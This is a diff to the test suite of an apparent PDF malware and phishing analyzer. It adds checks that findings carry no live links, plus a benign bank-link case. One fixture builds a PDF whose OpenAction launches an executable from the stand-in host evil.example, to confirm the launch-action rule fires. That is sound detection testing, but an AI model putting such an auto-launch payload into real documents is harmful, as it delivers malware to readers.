@@ -276,6 +276,7 @@ const FIXTURES: Record<string, Fixture> = {
 
 // ---- the registry ----------------------------------------------------------------------------
 
+const LIVE_LINK = /\b(https?|ftp):\/\/[^\s[]+\.[a-z]/i;
 const KEBAB = /^[a-z0-9]+(-[a-z0-9]+)*$/;
 const ATTACK_ID = /^T\d{4}(\.\d{3})?$/;
 const CVE_ID = /^CVE-\d{4}-\d{4,}$/;
@@ -321,6 +322,20 @@ describe("every rule fires on its fixture", () => {
     expect(finding).toMatchObject({ id, title: rule.title, severity: rule.severity, weight: rule.weight, attack: rule.attack, mitigationIds: rule.mitigations });
     expect(finding!.evidence.length).toBeGreaterThan(0);
     for (const c of rule.cve) expect(finding!.cve).toContain(c);
+  });
+
+  it("never puts a live link in the evidence of any fixture's findings", () => {
+    for (const [id, fixture] of Object.entries(FIXTURES)) {
+      for (const f of analyzeFast(fixture.build(), { fileName: `${id}.pdf` }).findings) {
+        for (const e of f.evidence) expect(e.excerpt ?? "", `${id}: ${f.ruleId}`).not.toMatch(LIVE_LINK);
+      }
+    }
+  });
+
+  it("does not put a live link in a finding's description (Launch of a URL)", () => {
+    const r = analyzeFast(documentWith({ catalog: "/OpenAction << /S /Launch /F (http://evil.example/a.exe) >>" }).build(), { fileName: "launch-url.pdf" });
+    expect(r.findings.map((f) => f.ruleId)).toContain("launch-action");
+    for (const f of r.findings) expect(f.description, f.ruleId).not.toMatch(LIVE_LINK);
   });
 
   it("fires the exploit rules of these fixtures with their CVE", () => {
@@ -381,6 +396,13 @@ describe("benign fixtures stay benign", () => {
     expect(r.findings.filter((f) => PHISHING_RULES.includes(f.ruleId)).map((f) => f.ruleId)).toEqual([]);
     expect(r.summary.verdict).toBe("benign");
     expect(r.iocs.urls).toContain(url);
+  });
+
+  it("a small link to a bank's own sign-in page is not flagged as a phishing URL", () => {
+    const url = "https://secure.bankofamerica.com/login/sign-in/signOnV2Screen.go";
+    const r = analyzeFast(documentWith({ annots: [link(`<< /S /URI /URI (${url}) >>`)] }).build(), { fileName: "statement.pdf" });
+    expect(r.findings.map((f) => f.ruleId)).not.toContain("phishing-url-pattern");
+    expect(r.summary.verdict).toBe("benign");
   });
 
   it("a page-sized link in a long document is not a phishing overlay", () => {
